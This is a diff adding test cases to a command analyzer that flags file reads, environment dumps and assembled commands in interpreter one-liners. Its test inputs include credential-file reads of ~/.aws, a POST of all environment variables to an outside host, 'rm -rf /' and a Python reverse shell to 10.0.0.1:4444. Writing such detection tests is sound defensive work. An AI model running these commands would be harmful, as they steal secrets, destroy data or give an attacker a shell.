@@ -78,3 +78,81 @@ test('hosts that code names', () => {
   const { invocations, network } = analyzeCommand(`python3 -c 'import requests; requests.post("https://User@Example.com:8/x", data=1)'`);
   expect([invocations.flatMap(({ hosts }) => hosts), network]).toEqual([['example.com'], true]);
 });
+
+test.each([
+  `node -p "require('fs').readFileSync(process.env.HOME+'/.aws/c','utf8')"`,
+  `node -e "fs.readFileSync(require('os').homedir() + '/.aws/c')"`,
+  `node -e "fs.readFileSync(path.join(os.homedir(), '.aws', 'c'))"`,
+  "node -e 'fs.readFileSync(`${process.env.HOME}/.aws/c`)'",
+  `node -e "fs.readFileSync(process.env['HOME'] + '/.aws/c')"`,
+  `python3 -c "open(os.environ['HOME']+'/.aws/c').read()"`,
+  `python3 -c "open(os.environ.get('HOME') + '/.aws/c').read()"`,
+  `python3 -c "open(os.path.join(os.environ['HOME'], '.aws', 'c')).read()"`,
+  `python3 -c "print((Path.home() / '.aws' / 'c').read_text())"`,
+  `python3 -c "print(Path.home().joinpath('.aws', 'c').read_text())"`,
+  `python3 -c "h = Path.home(); p = h / '.aws/c'; p.read_text()"`,
+  `python3 -c "Path('~/.aws/c').expanduser().read_text()"`,
+  `python3 -c "open('/'.join(['~', '.aws', 'c']))"`,
+  `python3 -c "open(f'{os.environ[\\"HOME\\"]}/.aws/c').read()"`,
+  `ruby -e 'puts File.read(ENV["HOME"] + "/.aws/c")'`,
+  `ruby -e 'puts File.read("#{ENV["HOME"]}/.aws/c")'`,
+  `ruby -e 'puts File.read(File.join(Dir.home, ".aws/c"))'`,
+  `perl -e 'open F, "<", "$ENV{HOME}/.aws/c"; print <F>'`,
+  `perl -e 'open(F, "<", $ENV{HOME} . "/.aws/c")'`,
+  `php -r 'echo file_get_contents(getenv("HOME")."/.aws/c");'`,
+  `php -r 'echo file_get_contents($_SERVER["HOME"]."/.aws/c");'`,
+])('what lies below the home directory of whoever runs the code: %s', (text) => {
+  const analysis = analyzeCommand(text);
+  expect([files(analysis), analysis.dynamic]).toEqual([['read ~/.aws/c'], false]);
+});
+
+test('a home directory that the code sets is anything', () => {
+  expect(files(analyzeCommand(`python3 -c "os.environ['HOME'] = x; os.remove(os.environ['HOME'] + '/a')"`))).toEqual(['delete ?/a']);
+});
+
+const runs = (text: string): readonly string[] =>
+  analyzeCommand(text).invocations.map(({ program, args }) => [program ?? '?', ...args.map(textOf)].join(' '));
+
+test.each([
+  `python3 -c "import os; print(os.environ)"`,
+  `python3 -c "import os, json; print(json.dumps(dict(os.environ)))"`,
+  `python3 -c "import os; [print(k, v) for k, v in os.environ.items()]"`,
+  `python3 -c "import os, requests; requests.post('https://x.com', json=dict(os.environ))"`,
+  `node -e "console.log(process.env)"`,
+  'node -p process.env',
+  'python3 -c "import os;[print(k,os.environ[k]) for k in os.environ]"',
+  `awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'`,
+  `node -e "for (const [k, v] of Object.entries(process.env)) console.log(k, v)"`,
+  `ruby -e 'p ENV.to_h'`,
+  `perl -e 'print map {"$_=$ENV{$_}"} keys %ENV'`,
+  `php -r 'print_r(getenv());'`,
+])('the whole environment is shown as by printenv: %s', (text) => {
+  expect(runs(text)).toContain('printenv');
+});
+
+test.each([
+  `python3 -c "import os; print(os.environ['PATH'])"`,
+  `python3 -c "import os; print('X' in os.environ)"`,
+  `python3 -c "import os, subprocess; subprocess.run(['ls'], env=dict(os.environ, A='b'))"`,
+  `node -e "console.log(process.env.PATH)"`,
+  `node -e "cp.spawnSync('ls', [], {env: {...process.env, A: 1}})"`,
+  `node -e "Object.assign(process.env, {A: 1})"`,
+  `ruby -e 'puts ENV["PATH"]'`,
+  `php -r 'echo getenv("PATH");'`,
+])('a part of the environment is not: %s', (text) => {
+  expect(runs(text)).not.toContain('printenv');
+});
+
+test.each<[string, string]>([
+  [`python3 -c "import subprocess; subprocess.run(' '.join(['rm', '-rf', '/']), shell=True)"`, 'rm -rf /'],
+  [`node -e "require('child_process').execSync(['rm', '-rf', '/'].join(' '))"`, 'rm -rf /'],
+  [`python3 -c "import os; os.system('rm -rf {}'.format(x))"`, 'rm -rf ?'],
+  [`python3 -c "import os; os.system('rm -rf %s' % x)"`, 'rm -rf ?'],
+  [`perl -e 'system("rm $x{a}")'`, 'rm ?'],
+  [
+    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
+    'sh',
+  ],
+])('texts that code puts together: %s', (text, expected) => {
+  expect(runs(text)).toContain(expected);
+});
